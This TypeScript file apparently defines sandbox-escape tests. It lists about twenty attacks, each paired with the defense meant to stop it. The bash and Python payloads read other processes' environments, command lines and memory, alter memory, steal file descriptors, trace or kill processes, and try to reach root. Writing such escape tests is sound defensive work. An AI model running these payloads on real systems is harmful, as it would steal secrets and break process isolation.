/** What runs beside it: the server, and other runs. */
import { readFileSync } from 'node:fs';
import { type Attack, bash, python } from '../attack.ts';
import {
  anywhere,
  childRunsAsRoot,
  descriptor,
  loot,
  lootOf,
  namespaceIs,
  outcomeIs,
  processShows,
  survives,
  victimEnded,
} from '../evidence.ts';

const stack = `
def stack_of(pid):
    for line in open(f"/proc/{pid}/maps"):
        if line.rstrip().endswith("[stack]"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            return start, end - start
victim = int(env["VICTIM_PID"])
start, size = stack_of(victim)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
memory = ctypes.create_string_buffer(size)
own = Vector(ctypes.addressof(memory), size)
other = Vector(start, size)
`;

export const processAttacks: readonly Attack[] = [
  {
    id: 'processes/environments',
    title: 'reads the environments of the server and of other runs',
    stoppedBy: 'process namespace with a /proc of its own; an environment of exactly what it was given',
    program: bash('cat /proc/[0-9]*/environ > loot 2>/dev/null'),
    evidence: loot,
  },
  {
    id: 'processes/own-environment',
    title: 'finds a secret of the server in what it has inherited',
    stoppedBy: 'an environment of exactly what it was given',
    program: bash('cat /proc/$PPID/environ /proc/1/environ > loot 2>/dev/null'),
    evidence: loot,
  },
  {
    id: 'processes/arguments',
    title: 'reads the command line of the server',
    stoppedBy: 'process namespace with a /proc of its own',
    program: bash('cat "/proc/$SERVER_PID/cmdline" > loot'),
    evidence: loot,
  },
  {
    id: 'processes/kill',
    title: 'kills a process of the server',
    stoppedBy: 'process namespace',
    program: bash('kill -KILL "$VICTIM_PID"; sleep 0.2'),
    evidence: victimEnded,
  },
  {
    id: 'processes/trace',
    title: 'traces a process of the server, and takes it along when it ends',
    stoppedBy: 'process namespace; system-call filter',
    program: python(`
if os.fork() == 0:
    call("ptrace", 0x4206, int(env["VICTIM_PID"]), 0, 0x100000)  # PTRACE_SEIZE, PTRACE_O_EXITKILL
else:
    os.wait()
    time.sleep(0.3)
`),
    evidence: victimEnded,
  },
  {
    id: 'processes/memory-file',
    title: 'reads the memory of a process by /proc/<pid>/mem',
    stoppedBy: 'process namespace with a /proc of its own',
    program: python(`${stack}
with open(f"/proc/{victim}/mem", "rb") as file:
    file.seek(start)
    loot(file.read(size))`),
    evidence: loot,
  },
  {
    id: 'processes/memory-read',
    title: 'reads the memory of a process by process_vm_readv',
    stoppedBy: 'process namespace; system-call filter',
    program: python(`${stack}
call("process_vm_readv", victim, ctypes.byref(own), 1, ctypes.byref(other), 1, 0)
loot(memory.raw)`),
    evidence: loot,
  },
  {
    id: 'processes/memory-write',
    title: 'changes the memory of a process by process_vm_writev',
    stoppedBy: 'process namespace; system-call filter',
    program: python(`${stack}
call("process_vm_readv", victim, ctypes.byref(own), 1, ctypes.byref(other), 1, 0)
changed = memory.raw.replace(b"TOKEN=", b"NEKOT=")
ctypes.memmove(memory, changed, size)
call("process_vm_writev", victim, ctypes.byref(own), 1, ctypes.byref(other), 1, 0)`),
    evidence: anywhere(({ victim }) => readFileSync(`/proc/${victim}/environ`, 'latin1').includes('NEKOT=')),
  },
  {
    id: 'processes/steal-descriptor',
    title: 'takes an open file out of another process',
    stoppedBy: 'process namespace; system-call filter',
    program: python(
      'loot(os.pread(call("pidfd_getfd", call("pidfd_open", int(env["VICTIM_PID"]), 0), 9, 0), 1000, 0))',
    ),
    evidence: loot,
  },
  {
    id: 'processes/reopen-descriptor',
    title: 'opens a file that another process has open',
    stoppedBy: 'process namespace with a /proc of its own',
    program: bash('cat "/proc/$VICTIM_PID/fd/9" > loot'),
    evidence: loot,
  },
  {
    id: 'processes/compare',
    title: 'compares what two processes have open (kcmp)',
    stoppedBy: 'process namespace; system-call filter',
    // 0: equal, 1 to 3: ordered. The call itself tells where objects lie in the kernel.
    program: python(`
victim = int(env["VICTIM_PID"])
loot(f"compared {call('kcmp', victim, os.getpid(), 0, 0, 0)} by {env['MARK']}")`),
    evidence: lootOf(({ mark }) => `by ${mark}`),
  },
  {
    id: 'processes/daemon',
    title: 'leaves a process that goes on when the command has ended',
    stoppedBy: 'process namespace, which ends with the command',
    program: bash('setsid nohup sleep 20 >/dev/null 2>&1 & disown'),
    evidence: survives,
  },
  {
    id: 'processes/deaf',
    title: 'hears no signal, forks away and outlives its time limit',
    stoppedBy: 'SIGKILL for the first process of the namespace',
    limits: { wallMs: 600 },
    program: bash(
      'trap "" INT TERM HUP QUIT; (trap "" INT TERM HUP; sleep 20) >/dev/null 2>&1 & sleep 20; sleep 20',
    ),
    evidence: survives,
  },
  {
    id: 'processes/held-pipe',
    title: 'keeps the server waiting by a process that holds its output',
    stoppedBy: 'process namespace, which ends with the command; output may be late for 2 s',
    program: bash('setsid sleep 5 & echo done'),
    evidence: outcomeIs(({ durationMs }) => durationMs > 2500),
  },
  {
    id: 'processes/priority',
    title: 'runs before everything else on the machine',
    stoppedBy: 'no capabilities',
    needs: ['root'],
    program: bash('nice -n -15 sleep 1'),
    evidence: processShows(
      'stat',
      (text) => Number(text.slice(text.lastIndexOf(')') + 2).split(' ')[16]) < 0,
    ),
  },
  {
    id: 'processes/spared',
    title: 'has the kernel choose the server as soon as itself when memory runs out',
    stoppedBy: 'oom_score_adj 800, in a /proc that is read-only',
    program: bash('echo 0 > /proc/self/oom_score_adj; exec sleep 1'),
    evidence: processShows('oom_score_adj', (text) => text !== '' && Number(text) <= ofServer()),
  },
  {
    id: 'processes/become-root',
    title: 'starts a program that runs as root (set-user-ID)',
    stoppedBy: 'no new privileges; mounts are nosuid',
    needs: ['no-root'],
    program: bash('sleep 2 | su root -c true'),
    evidence: childRunsAsRoot,
  },
  {
    id: 'processes/leaked-namespace',
    title: 'joins the network of the machine by a descriptor that the server left open',
    stoppedBy: 'inherited descriptors are closed at the start; system-call filter; no capabilities',
    needs: ['root', 'namespaces'],
    program: python('call("setns", 31, 0)\nhold()'),
    evidence: namespaceIs('net', ({ targets }) => targets['OUTER_NETWORK']),
  },
  {
    id: 'processes/hidden-signals',
    title: 'keeps a descriptor on a process of the server, to signal it whenever it likes',
    stoppedBy: 'process namespace',
    program: python('call("pidfd_open", int(env["VICTIM_PID"]), 0)\nhold()'),
    evidence: descriptor(/pidfd/),
  },
];

const ofServer = (): number => Number(readFileSync('/proc/self/oom_score_adj', 'utf8'));
